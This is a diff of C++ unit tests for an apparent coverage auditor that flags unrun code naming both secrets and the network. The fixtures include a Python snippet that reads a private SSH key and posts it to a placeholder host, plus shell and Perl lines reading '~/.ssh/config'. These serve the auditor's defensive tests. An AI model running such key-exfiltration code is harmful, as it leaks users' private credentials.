@@ -129,8 +129,8 @@ TEST(CoverageOfASkill, IsOpenWhereSecretsAndTheNetworkAreNamedInWhatDidNotRun) {
                                     "    urllib.request.urlopen('https://a.example/', key)\n");
   audit.evidence.lines.list = {{"a.py", {{1, 1}}, {{1, 4}}}};
   EXPECT_THAT(texts_of(audit.assessed().unexercised),
-              ElementsAre("not exercised: line 2 of `a.py` did not run; it names secrets and the "
-                          "network: `import urllib.request`"));
+              ElementsAre("not exercised: line 3 of `a.py` did not run; it names secrets and the "
+                          "network: `key = open('/home/ubuntu/.ssh/id_rsa').read()`"));
 }
 
 TEST(CoverageOfASkill, IsOpenWhereNobodyCountsTheLinesOfWhatNamesSecretsAndTheNetwork) {
@@ -148,6 +148,10 @@ TEST(CoverageOfASkill, IsOpenWhereNobodyCountsTheLinesOfWhatNamesSecretsAndTheNe
   EXPECT_THAT(texts(with_program("a.sh", "python3 - <<'EOF'\n" + python + "EOF\n")),
               ElementsAre(HasSubstr("nobody counts")));
   // A text that only speaks of both, and code that names one.
+  EXPECT_THAT(texts(with_program("a.sh", "awk '$1 == \"Host\" { print $2 }' ~/.ssh/config\n")),
+              IsEmpty());
+  EXPECT_THAT(texts(with_program("a.pl", "open my $f, '<', \"$ENV{HOME}/.ssh/config\";\n")),
+              IsEmpty());
   EXPECT_THAT(texts(with_program("a.sh", "cat > README <<'EOF'\n" + python + "EOF\n")), IsEmpty());
   EXPECT_THAT(texts(with_program("a.rb",
                                  "# Reads no .aws\nrequire 'socket'\n"
